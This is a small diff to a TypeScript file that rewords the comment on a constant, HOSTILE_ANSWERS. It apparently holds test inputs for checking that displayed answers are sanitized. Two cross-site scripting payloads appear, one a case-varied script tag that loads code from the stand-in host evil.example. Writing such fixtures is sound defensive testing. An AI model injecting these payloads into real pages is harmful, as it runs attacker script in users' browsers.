@@ -1,4 +1,4 @@
-/** What an answer could say to run a script, to leave the place where it is shown, or to fetch something. */
+/** Answers that try to run a script, escape their element, or fetch something. */
 export const HOSTILE_ANSWERS: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
